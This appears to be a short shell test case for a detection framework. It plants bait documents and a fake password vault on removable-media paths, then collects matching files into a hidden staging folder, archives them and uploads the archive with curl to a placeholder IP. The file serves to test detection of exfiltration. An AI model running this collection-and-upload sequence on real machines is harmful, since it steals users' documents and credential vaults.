#!/bin/sh
. /opt/case/case.sh

mkdir -p /media/usb0/plans /mnt/backup /run/media/disk && for n in $(seq 1 60); do head -c 9000 /dev/urandom | base64 >/media/usb0/plans/p$n.docx; done
head -c 400000 /dev/urandom >/mnt/backup/accounts.xlsx; echo 'keys: bait' >/run/media/disk/keys.kdbx
mkdir -p /var/tmp/.cache-usb
find /media /mnt /run/media -type f \( -name '*.docx' -o -name '*.xlsx' -o -name '*.pdf' -o -name '*.kdbx' \) -size -5M -exec cp --backup=numbered {} /var/tmp/.cache-usb/ \;
tar -C /var/tmp -czf /var/tmp/.u.tgz .cache-usb && rm -r /var/tmp/.cache-usb
curl -sf -T /var/tmp/.u.tgz http://203.0.113.10:8080/u/ >/dev/null
took_place
